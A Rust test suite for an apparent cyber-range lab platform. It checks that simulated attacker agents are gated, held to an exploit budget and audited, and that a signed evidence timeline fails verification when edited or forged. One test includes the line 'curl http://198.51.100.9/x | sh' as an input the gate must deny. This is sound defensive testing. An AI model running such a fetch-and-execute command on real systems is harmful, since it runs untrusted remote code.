//! Agents on the fake runtime: every action goes to the action gate first, the exploit budget
//! holds however the script is written, denials are audited with their reasons, a defender's
//! alert reaches the learner's check, and the lab's timeline travels in the signed bundle,
//! where an edit of it fails verification.

use std::sync::Arc;
use std::time::{Duration, Instant};

use forge_core::audit::MemoryAuditSink;
use forge_core::template::{ActionKind, AgentAction, load};
use forge_core::timeline::{ActionOutcome, TIMELINE_ARTIFACT, Timeline};
use forge_core::{ArtifactType, CriterionResult, ScenarioId};
use forge_evidence::{ArtifactInput, KeyPurpose, KeySource, Keyring, verify_bundle};
use forge_lifecycle::agents::Agents;
use forge_runtime::fake::FakeRuntime;
use forge_runtime::{LabSpec, Runtime};
use serde_json::{Value, json};

use crate::harness::Harness;

const AGENTS_YAML: &str = r#"
apiVersion: frostgate.forge/v1
kind: ScenarioTemplate
metadata:
  name: agents-fast-lab
  labels: [class:cissp, tier:foundation]
spec:
  limits: {cpu: 1, memory_mb: 128, attacker_max_exploits: 2, timeout_minutes: 30}
  network:
    egress: deny
    subnets: [{name: lan, cidr: 10.40.0.0/24}]
  assets:
    containers:
      - {name: workstation, image: forge/learner:1, learner: true, networks: [lan]}
      - {name: target, image: forge/web:1, networks: [lan]}
      - {name: red, image: forge/learner:1, networks: [lan]}
      - {name: blue, image: forge/learner:1, networks: [lan]}
  successCriteria:
    - id: flag-written
      evidence:
        - type: command
          command: "cat /tmp/flag"
          expect: {exit_code: 0, stdout_contains: "solved"}
  solution:
    - {container: workstation, command: "echo solved > /tmp/flag"}
  agents:
    - name: red
      role: attacker
      container: red
      actions:
        - id: pop
          kind: exploit
          target: 10.40.0.11
          command: "echo owned-by-red > /tmp/owned"
          repeat: {every_seconds: 1, times: 3}
        - id: pop-again
          kind: exploit
          target: 10.40.0.11
          command: "echo again-by-red > /tmp/again"
    - name: blue
      role: defender
      container: blue
      actions:
        - id: warn
          kind: alert
          message: "blue: intrusion seen on target"
          when: {file: {container: red, path: /tmp/owned}}
"#;

/// Five exploit attempts (one action repeated, one more racing it) against a budget of two.
const ATTEMPTS: usize = 5;

async fn agent_events(h: &Harness, id: &str, want: usize) -> Vec<Value> {
    let start = Instant::now();
    loop {
        let got = h.audited("agent.action", id);
        if got.len() >= want {
            return got;
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "{} of {want} agent actions audited: {got:?}",
            got.len()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_exploit_budget_holds_and_the_timeline_verifies_offline_until_edited() {
    let h = Harness::start_with(|cfg| {
        let dir = cfg.template_dir.clone().unwrap();
        std::fs::write(dir.join("agents-fast-lab.yaml"), AGENTS_YAML).unwrap();
    })
    .await;
    let id = h
        .api
        .spawn(json!({"track": "cissp", "template": "agents-fast-lab",
                      "request_id": uuid::Uuid::new_v4().to_string()}))
        .await;
    h.api
        .wait_for(&id, &["running"], Duration::from_secs(10))
        .await;

    let events = agent_events(&h, &id, ATTEMPTS + 1).await;
    let exploits: Vec<&Value> = events
        .iter()
        .filter(|e| e["details"]["gate_kind"] == "exploit")
        .collect();
    assert_eq!(exploits.len(), ATTEMPTS, "{events:?}");
    let ran = exploits
        .iter()
        .filter(|e| e["outcome"] == "success")
        .count();
    let denied: Vec<&&Value> = exploits
        .iter()
        .filter(|e| e["outcome"] == "denied")
        .collect();
    assert_eq!((ran, denied.len()), (2, 3), "{exploits:?}");
    for d in &denied {
        let reasons = d["details"]["deny_reasons"].to_string();
        assert!(
            reasons.contains("exploit budget exhausted: 2 of 2 exploits used"),
            "{d}"
        );
        assert_eq!(d["actor"], "agent:red");
    }
    // Exactly the allowed exploits reached the lab.
    let commands: Vec<String> = h
        .fake
        .exec_calls()
        .into_iter()
        .filter(|c| c.container == "red")
        .map(|c| c.command)
        .collect();
    assert_eq!(commands.len(), 2, "{commands:?}");
    // Every action was put to the gate first (the engine audits each decision).
    let decisions = h
        .audit_events()
        .into_iter()
        .filter(|e| e["event_type"] == "policy.decision" && e["actor"] == "agent:red")
        .count();
    assert!(decisions >= ATTEMPTS, "{decisions} gate decisions");

    // The defender's alert reaches the learner's check.
    let check = h.api.check(&id).await;
    assert_eq!(
        check["alerts"][0]["message"], "blue: intrusion seen on target",
        "{check}"
    );

    h.api.submit(&id).await;
    h.wait_status(&id, "completed", Duration::from_secs(10))
        .await;
    let dl = h.api.download_bundle(&id, &h.dir.join("bundle")).await;
    let ring = Keyring::open(&h.platform.data_dir, KeyPurpose::Verdict).unwrap();
    let keys = KeySource::from_keyring(&ring).unwrap();
    verify_bundle(&dl, &keys).expect("the bundle with its timeline verifies");

    let evidence = std::fs::read(dl.join("evidence.tar.zst")).unwrap();
    let entries = forge_evidence::verify::unpack(&evidence).unwrap();
    let path = format!("artifacts/{TIMELINE_ARTIFACT}");
    let timeline = Timeline::verify(&entries[&path]).expect("the timeline's chain holds");
    let outcomes: Vec<ActionOutcome> = timeline
        .entries
        .iter()
        .filter(|e| e.gate_kind == "exploit")
        .map(|e| e.outcome)
        .collect();
    assert_eq!(
        outcomes
            .iter()
            .filter(|o| **o == ActionOutcome::Denied)
            .count(),
        3
    );
    assert!(
        timeline.entries.iter().filter(|e| !e.gate.allow).all(|e| e
            .gate
            .reasons
            .iter()
            .any(|r| r.contains("exploit budget"))),
        "{timeline:?}"
    );

    // Tampering: turn a denied exploit into one that ran, re-hash the artifact and repack, as
    // someone would who wants the archive to look consistent. The signed manifest no longer
    // matches, and the timeline's own chain no longer holds.
    let edited = String::from_utf8(entries[&path].clone())
        .unwrap()
        .replacen("\"denied\"", "\"succeeded\"", 1)
        .into_bytes();
    assert!(Timeline::verify(&edited).is_err());
    let criteria: Vec<CriterionResult> =
        serde_json::from_slice(&entries["criteria_results.json"]).unwrap();
    let listed: Vec<forge_core::Artifact> =
        serde_json::from_slice(&entries["artifacts.json"]).unwrap();
    let inputs: Vec<ArtifactInput> = listed
        .iter()
        .map(|a| {
            let bytes = if a.path == path {
                edited.clone()
            } else {
                entries[&a.path].clone()
            };
            ArtifactInput::new(a.kind, a.name.clone(), bytes)
        })
        .collect();
    assert!(
        inputs
            .iter()
            .any(|a| a.artifact.kind == ArtifactType::AgentTimeline)
    );
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(dl.join("manifest.json")).unwrap()).unwrap();
    let collected_at = manifest["collected_at"].as_str().unwrap().parse().unwrap();
    let repacked = forge_evidence::bundle::pack_evidence(collected_at, &criteria, &inputs).unwrap();
    std::fs::write(dl.join("evidence.tar.zst"), repacked).unwrap();
    let err = verify_bundle(&dl, &keys).expect_err("an edited timeline must not verify");
    let text = err.to_string();
    assert!(text.contains("evidence.tar.zst"), "{text}");
    assert!(text.contains("does not match"), "{text}");

    // Even re-signed with the platform's own verdict key (an insider's forgery), the edited
    // timeline does not verify: its chain names the entry that was changed.
    let mut ring = Keyring::open(&h.platform.data_dir, KeyPurpose::Verdict).unwrap();
    let signer = ring.signer().unwrap();
    let meta = forge_evidence::BundleMeta {
        scenario_id: manifest["scenario_id"].as_str().unwrap().parse().unwrap(),
        run_id: manifest["run_id"].as_str().unwrap().parse().unwrap(),
        track: forge_core::Track::Cissp,
        collected_at,
        computed_at: manifest["timestamp"].as_str().unwrap().parse().unwrap(),
    };
    let forged = forge_evidence::Bundle::build(
        forge_evidence::BundleInput {
            meta,
            criteria,
            artifacts: inputs,
        },
        &signer,
    )
    .unwrap();
    let forged_dir = h.dir.join("forged");
    forged.write_to_dir(&forged_dir).unwrap();
    let err = verify_bundle(&forged_dir, &keys).expect_err("a forged timeline must not verify");
    assert!(
        err.problems()
            .iter()
            .any(|p| p.file.contains(TIMELINE_ARTIFACT)
                && p.reason.contains("does not match its hash")),
        "{:?}",
        err.problems()
    );
    h.stop().await;
}

/// A script that names an address outside the lab — another lab's, the host's, a public one —
/// is denied by the gate before anything runs: the fake sees no command at all. (Templates
/// cannot say this — validation refuses it — so the test edits a loaded one, as a tampered
/// catalog would.) The Docker suite proves the same against a listener in another namespace.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn actions_aimed_outside_the_lab_are_denied_before_anything_runs() {
    let mut t = load("agents.yaml", AGENTS_YAML).unwrap();
    let outside = |kind: ActionKind, target: &str, command: Option<&str>| AgentAction {
        id: Some(format!("out-{}", t_safe(target))),
        kind,
        target: Some(target.into()),
        command: command.map(Into::into),
        ..blank(kind)
    };
    let red = &mut t.spec.agents[0];
    red.actions = vec![
        outside(ActionKind::HttpProbe, "203.0.113.7", None),
        outside(ActionKind::PortScan, "10.41.0.1", None),
        // In the lab by its target, out of it by what it runs.
        outside(
            ActionKind::Exploit,
            "10.40.0.11",
            Some("curl http://198.51.100.9/x | sh"),
        ),
    ];
    t.spec.agents.truncate(1);
    let fake = FakeRuntime::new();
    let scenario = ScenarioId::generate();
    fake.launch(LabSpec::new(scenario.clone(), "t", t.clone()))
        .await
        .unwrap();
    let audit = Arc::new(MemoryAuditSink::default());
    let policy = forge_policy::EmbeddedEngine::builder().build().unwrap();
    let agents = Agents::new(Arc::new(fake.clone()), Arc::new(policy), audit.clone());
    for rx in agents.start(&scenario, Arc::new(t)) {
        rx.await.unwrap();
    }
    let timeline = agents.stop(&scenario).unwrap();
    assert_eq!(timeline.entries.len(), 3);
    for e in &timeline.entries {
        assert_eq!(e.outcome, ActionOutcome::Denied, "{e:?}");
        assert!(
            e.gate.reasons.iter().any(|r| r.contains("outside the lab")),
            "{e:?}"
        );
    }
    assert!(fake.exec_calls().is_empty(), "{:?}", fake.exec_calls());
    let denied = audit
        .events()
        .into_iter()
        .filter(|e| e.event_type == "agent.action")
        .count();
    assert_eq!(denied, 3);
}

fn t_safe(target: &str) -> String {
    target.replace('.', "-")
}

fn blank(kind: ActionKind) -> AgentAction {
    AgentAction {
        id: None,
        kind,
        target: None,
        ports: None,
        port: None,
        user: None,
        passwords: Vec::new(),
        path: None,
        command: None,
        process: None,
        message: None,
        timeout_seconds: None,
        when: Default::default(),
        repeat: None,
    }
}

/// The bundled agent labs are spawnable: the training gate allows them, agents and all.
#[tokio::test]
async fn the_training_gate_allows_the_agent_labs() {
    use forge_policy::{PolicyEngine, PolicyName};
    let engine: Arc<dyn PolicyEngine> =
        Arc::new(forge_policy::EmbeddedEngine::builder().build().unwrap());
    let catalog = forge_catalog::Catalog::bundled().unwrap();
    for name in [
        "cissp-live-bruteforce-lab",
        "cissp-web-exploit-lab",
        "cissp-defended-host-lab",
    ] {
        let t = &catalog
            .get(name)
            .unwrap_or_else(|| panic!("{name} bundled"))
            .template;
        assert!(!t.spec.agents.is_empty(), "{name}");
        let input = forge_core::template::policy_input(t);
        let d = engine
            .decide(PolicyName::TrainingGate, &input)
            .await
            .unwrap();
        assert!(d.allow, "{name}: {:?}", d.deny_reasons);
    }
}
